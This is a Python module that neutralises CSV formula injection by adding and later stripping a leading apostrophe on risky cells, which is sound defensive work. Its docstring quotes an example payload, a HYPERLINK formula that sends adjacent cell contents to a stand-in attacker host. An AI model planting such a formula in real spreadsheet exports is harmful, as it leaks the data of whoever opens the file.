"""Cells of the CSV sheets people open in Excel or Google Sheets: text in, the same text out.

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read by a
spreadsheet as a formula (OWASP "CSV injection"): a reply such as
``=HYPERLINK("http://evil.invalid/?"&A2, "klik")`` would become a live link that sends the
neighbouring cells away, or worse through DDE in old Excel. Such a cell is written with a
leading apostrophe, which every spreadsheet treats as "this is text".

Reading back undoes exactly that: :func:`decode_cell` removes the one apostrophe
:func:`encode_cell` added. Spreadsheets differ in what they save: Excel and LibreOffice keep the
apostrophe in the CSV they write, Google Sheets may drop it; both come back as the original
text. A text that itself starts with an apostrophe gets a second one, so it survives too. The
only texts that cannot be told apart start with an apostrophe followed by a formula character
or a second apostrophe, and only when a program dropped the added one (``'=x`` would come back
as ``=x``); replies almost never start that way, and the import uses the id and label columns.
"""

from __future__ import annotations

# ASCII formula starters, tab and CR (OWASP), plus the full-width forms some spreadsheets
# also accept as formula starters.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
TEXT_MARK = "'"


def _needs_mark(text: str) -> bool:
    return text.startswith(FORMULA_STARTS) or text.startswith(TEXT_MARK)


def encode_cell(text: str) -> str:
    """``text`` as a cell no spreadsheet evaluates."""
    return TEXT_MARK + text if _needs_mark(text) else text


def decode_cell(cell: str) -> str:
    """The text :func:`encode_cell` was given, from the cell as a spreadsheet saved it."""
    if cell.startswith(TEXT_MARK) and _needs_mark(cell[1:]):
        return cell[1:]
    return cell
